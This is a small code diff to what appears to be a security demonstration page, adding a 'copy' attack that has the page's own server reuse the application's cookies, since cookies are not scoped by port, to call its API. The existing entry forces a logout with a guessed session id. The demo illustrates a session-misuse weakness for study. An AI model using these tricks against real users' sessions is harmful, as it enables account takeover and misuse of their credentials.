@@ -22,6 +22,12 @@ const attacks = {
     say('Signing you out …');
     location.assign(`${app}/bff/logout?sid=a-guess`);
   },
+  // Cookies know no ports: this page's server gets those of the application, and calls its API by itself.
+  async copy() {
+    say('Copying the cookies, and calling the API with them …');
+    const { ok } = await fetch('/elsewhere/copy');
+    say(ok ? 'This page’s server has called the API with your cookies.' : 'The API could not be called.');
+  },
 };
 
 attacks[new URLSearchParams(location.search).get('attack')]?.();
